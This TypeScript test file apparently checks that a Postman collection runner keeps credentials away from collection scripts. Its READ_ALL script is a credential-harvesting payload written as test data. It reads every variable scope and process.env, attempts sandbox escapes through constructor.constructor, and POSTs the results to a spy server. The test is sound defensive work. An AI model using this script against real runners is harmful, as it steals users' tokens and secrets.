import { runCollections } from '../../scripts/run/run-collections'
import { readBody, replyJson, serve } from '../helpers/http-server'
import { collection, options, type RequestPlan } from './fixtures'

/* What scripts can read of an environment: not the credentials of uassist, unless the collection refers to them. */

const CREDENTIALS = {
  refreshToken: 'refresh-token-of-default',
  agentRefreshToken: 'refresh-token-of-agent',
  brokerKey: 'key-of-the-broker',
  clientSecret: 'secret-of-the-client',
  machineClientSecret: 'secret-of-the-machine',
  agentAccessToken: 'access-token-of-agent',
  supervisorAccessToken: 'access-token-of-supervisor',
}

/** Sends all that a script can read to `{{spy}}`, however it is read. Names nothing that it wants. */
const READ_ALL = `
const names = ['refresh Token', 'agent RefreshToken', 'broker Key', 'client Secret', 'machineClient Secret', 'agent AccessToken',
  'supervisor AccessToken'].map((name) => name.replace(' ', ''))
const found = []
const see = (read) => { try { found.push(read()) } catch (error) { found.push(String(error && error.stack)) } }
const scopes = [pm.environment, pm.variables, pm.globals, pm.collectionVariables, pm.iterationData]
for (const scope of scopes) {
  see(() => scope.toObject()); see(() => scope.toObject(false)); see(() => scope.values); see(() => JSON.stringify(scope))
  for (const name of names) { see(() => scope.get(name)); see(() => scope.replaceIn('{{' + name + '}}')); see(() => scope.has(name)) }
}
for (const name of names) {
  see(() => postman.getEnvironmentVariable(name)); see(() => postman.getGlobalVariable(name))
  see(() => environment[name]); see(() => globals[name]); see(() => data[name])
}
see(() => environment); see(() => globals); see(() => data); see(() => request); see(() => responseBody); see(() => responseCookies)
see(() => pm.request.toJSON()); see(() => pm.request.headers.toObject()); see(() => pm.response && pm.response.text())
see(() => pm.cookies.toObject()); see(() => pm.info); see(() => pm.execution.location); see(() => postman)
const everything = Function('return this')()
for (const key of Reflect.ownKeys(everything)) see(() => typeof everything[key] === 'object' ? JSON.stringify(everything[key]) : String(everything[key]).slice(0, 200))
for (const name of ['fs', 'os', 'process', 'child_process', 'newman', 'postman-runtime', 'module', '../package.json']) see(() => JSON.stringify(require(name)))
see(() => process.env); see(() => Function('return process')().env); see(() => found.constructor.constructor('return process')().env)
see(() => require('postman-collection').Property.replaceSubstitutions('{{' + names.join('}}{{') + '}}', pm.environment))
const text = found.map((one) => { try { return typeof one === 'string' ? one : JSON.stringify(one) } catch (error) { return '' } }).join('\\n')
pm.sendRequest({ url: pm.variables.get('spy'), method: 'POST', body: { mode: 'raw', raw: text } }, () => {})
import('fs').then((fs) => console.log(fs), (error) => { try { console.log(error.constructor.constructor('return process')().env) } catch (e) {} })
`

const variables = (values: object) => Object.entries(values).map(([key, value]) => ({ key, value: value as string }))

/** Runs the requests with an environment full of credentials. Resolves to all that came to the server. */
async function readBy(requests: (url: string) => RequestPlan[], changes: { accounts?: string[] } = {}) {
  const seen: string[] = []
  const url = await serve((request, response) => {
    void readBody(request).then((body) => {
      seen.push(request.url ?? '', JSON.stringify(request.headers), body)
      response.setHeader('set-cookie', 'id=a-cookie-of-the-server')
      replyJson(response, 200, {})
    })
  })
  const { notes } = await runCollections(
    options([collection('reads', requests(url))], {
      accounts: ['default', ...(changes.accounts ?? [])],
      tokenOf: (account) =>
        Promise.resolve({ accessToken: `token-given-to-${account}`, expiresAt: Date.now() + 3_600_000 }),
      environment: { name: 'test', values: variables({ spy: url, plain: 'a-plain-value', ...CREDENTIALS }) },
      writes: 'allowed',
      timeoutScriptMs: 20_000,
    }),
  )
  const text = seen.join('\n')
  const credentials = Object.entries(CREDENTIALS).filter(([, value]) => text.includes(value))
  return { text, found: credentials.map(([key]) => key), notes }
}

test('a collection that reads everything, in every way that scripts have, finds none of them', async () => {
  process.env.UASSIST_REFRESH_TOKEN = 'refresh-token-of-the-process'
  try {
    const { text, found } = await readBy(
      (url) => [
        { name: 'a', url, pre: READ_ALL, test: READ_ALL },
        { name: 'b', url, pre: READ_ALL, test: READ_ALL },
      ],
      { accounts: ['agent', 'supervisor'] },
    )
    expect(found).toEqual([])
    expect(text).not.toContain('refresh-token-of-the-process')
    expect(text).not.toMatch(/token-given-to-(?:agent|supervisor)/)
    // What it may see it saw, and so it would have seen the others.
    for (const seen of ['a-plain-value', 'token-given-to-default', 'a-cookie-of-the-server'])
      expect(text).toContain(seen)
  } finally {
    delete process.env.UASSIST_REFRESH_TOKEN
  }
})

describe('what a collection refers to it gets', () => {
  const asks = (url: string): RequestPlan => ({ name: 'reads', url, pre: READ_ALL })
  const bearer = (variable: string) => ({ type: 'bearer', bearer: [{ key: 'token', value: `{{${variable}}}` }] })

  test.each<[way: string, request: Partial<RequestPlan>, found: string[]]>([
    ['in an address', { url: '{{spy}}/{{clientSecret}}' }, ['clientSecret']],
    ['in a body', { method: 'POST', body: { mode: 'raw', raw: '{{machineClientSecret}}' } }, ['machineClientSecret']],
    ['in a header', { header: { 'x-secret': '{{clientSecret}}' } }, ['clientSecret']],
    ['in the name of its own variable', { auth: bearer('agentAccessToken') }, ['agentAccessToken']],
    ['in a script, in quotes', { test: "pm.environment.get('clientSecret')" }, ['clientSecret']],
    ['in a script, in other quotes', { test: 'pm.variables.get("supervisorAccessToken")' }, ['supervisorAccessToken']],
    ['in a script, as a template', { test: 'pm.variables.replaceIn(`x{{clientSecret}}y`)' }, ['clientSecret']],
    [
      'behind an address in quotes',
      { test: "const a = 'https://x'; pm.environment.get('clientSecret')" },
      ['clientSecret'],
    ],
    [
      'not in a comment',
      { test: "// pm.environment.get('clientSecret') or {{agentAccessToken}}\n/* 'clientSecret' */" },
      [],
    ],
    ['not without quotes', { test: 'const clientSecret = 1' }, []],
    ['not as part of a longer name', { test: "pm.environment.get('clientSecretOfOthers')" }, []],
  ])('%s', async (_, changes, found) => {
    const result = await readBy((url) => [asks(url), { name: 'refers', url, ...changes }])
    expect(result.found).toEqual(found)
  })

  test('but never a refresh token, which is said, nor the key of the broker', async () => {
    const test =
      "pm.environment.get('refreshToken'); pm.environment.get('brokerKey'); pm.variables.get('agentRefreshToken')"
    const { found, notes } = await readBy((url) => [
      asks(url),
      { name: 'refers', url: `${url}/{{refreshToken}}`, test },
    ])
    expect(found).toEqual([])
    for (const key of ['refreshToken', 'agentRefreshToken']) {
      expect(notes).toContain(`the collection "reads" refers to "${key}", but no collection is given a refresh token`)
    }
  })

  test('what was named by hand for the run it gets, whatever it is', async () => {
    const pre = "pm.request.url = pm.request.url + '?' + pm.environment.get('refreshToken')"
    const seen: string[] = []
    const url = await serve((request, response) => {
      seen.push(request.url ?? '')
      replyJson(response, 200, {})
    })
    const by = (isAskedFor: boolean) => {
      const values = [{ key: 'refreshToken', value: 'of-somebody', ...(isAskedFor && { isAskedFor }) }]
      return runCollections(
        options([collection('own', [{ name: 'a', url, pre }])], { environment: { name: '', values } }),
      )
    }
    expect((await by(true)).notes).toEqual([])
    expect((await by(false)).notes).toHaveLength(1)
    expect(seen).toEqual(['/?of-somebody', '/?undefined'])
  })

  test('another account’s token is fetched for one collection, and given to that one only', async () => {
    const seen: string[] = []
    const url = await serve((request, response) => {
      seen.push(`${request.url ?? ''} ${request.headers['x-seen']?.toString() ?? ''}`)
      replyJson(response, 200, {})
    })
    const pre = "pm.request.headers.add({ key: 'x-seen', value: Object.keys(pm.environment.toObject()).join() })"
    const uses = collection('uses', [{ name: 'a', url: `${url}/a`, pre, auth: bearer('agentAccessToken') }])
    const other = collection('other', [{ name: 'b', url: `${url}/b`, pre }])
    let now = Date.now()
    await runCollections(
      options([uses, other, uses], {
        accounts: ['default', 'agent'],
        // Due for renewal before each request: what a renewal brings is held to the same.
        tokenOf: (account) => Promise.resolve({ accessToken: `${account}-${String(now++)}`, expiresAt: Date.now() }),
      }),
    )
    expect(seen).toEqual(['/a accessToken,agentAccessToken', '/b accessToken', '/a accessToken,agentAccessToken'])
  })
})
